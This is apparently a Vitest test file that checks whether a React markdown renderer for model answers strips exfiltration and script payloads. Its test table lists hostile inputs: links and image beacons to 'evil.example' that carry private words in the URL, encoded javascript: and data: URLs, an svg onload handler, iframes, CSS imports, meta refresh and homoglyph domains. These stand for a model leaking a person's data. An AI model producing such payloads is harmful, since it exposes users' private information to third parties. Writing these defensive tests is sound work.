import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import AnswerMarkdown from './markdown.tsx';

const EVIL = 'https://evil.example/';

/** Answers of a model that puts the person's data into what a browser might load or open. */
test.each<[answer: string, links: string[]]>([
  ['[Plan](https://evil.example/Divorce/lawyer)', [EVIL]],
  ['[Plan](https://evil.example/?d=Divorce#lawyer "Divorce")', [EVIL]],
  ['[Plan](https://Divorce:lawyer@evil.example/)', [EVIL]],
  ['[Plan](&#104;ttps://evil.example/Divorce)', [EVIL]],
  ['[Plan](https&colon;//evil.example/Divorce)', [EVIL]],
  ['<https://evil.example/Divorce>', [EVIL]],
  ['https://evil.example/Divorce', [EVIL]],
  ['[Plan][1]\n\n[1]: https://evil.example/Divorce', [EVIL]],
  ['See[^1].\n\n[^1]: https://evil.example/Divorce', [EVIL]],
  ['| a |\n|---|\n| https://evil.example/Divorce |', [EVIL]],
  ['[![x](https://evil.example/Divorce.png)](https://evil.example/Divorce)', [EVIL]],
  ['[https://bank.example](https://evil.example/Divorce)', [EVIL]],
  ['[Plan](https://еvil.example/Divorce)', ['https://xn--vil-qdd.example/']],
  ['[Plan](https://evil。example/Divorce)', [EVIL]],
  ['![x](https://evil.example/Divorce.png)', []],
  ['![x][1]\n\n[1]: https://evil.example/Divorce.png', []],
  ['<img src="https://evil.example/Divorce.png">', []],
  ['<svg onload=alert(1)><a href="https://evil.example/Divorce">x</a></svg>', []],
  ['<iframe src="https://evil.example/Divorce"></iframe>', []],
  ['<style>@import "https://evil.example/Divorce";</style>', []],
  ['<meta http-equiv=refresh content="0;url=https://evil.example/Divorce">', []],
  ['[x](javascript:alert`Divorce`)', []],
  ['[x](java\tscript:alert(1))', []],
  ['[x](&#x6A;avascript:alert(1))', []],
  ['[x](data:text/html,Divorce)', []],
  ['[x](mailto:eve@evil.example?body=Divorce)', []],
  ['[x](//evil.example/Divorce)', []],
  ['[x](/\\evil.example/Divorce)', []],
  ['[x](/api/account/export)', []],
  ['eve@evil.example and www.evil.example/Divorce', []],
])('%j loads nothing, and links only to the start of a site', (answer, links) => {
  const html = renderToStaticMarkup(AnswerMarkdown({ children: answer }));
  // The text of what isn't rendered is escaped, so that these would be elements and attributes.
  expect(html).not.toMatch(
    /<(?:img|svg|iframe|style|meta|script|link|form|input|object)\b| (?:src|on\w+|style)=/,
  );
  expect(Array.from(html.matchAll(/ href="([^"]*)"/g), ([, href]) => href)).toEqual(links);
});
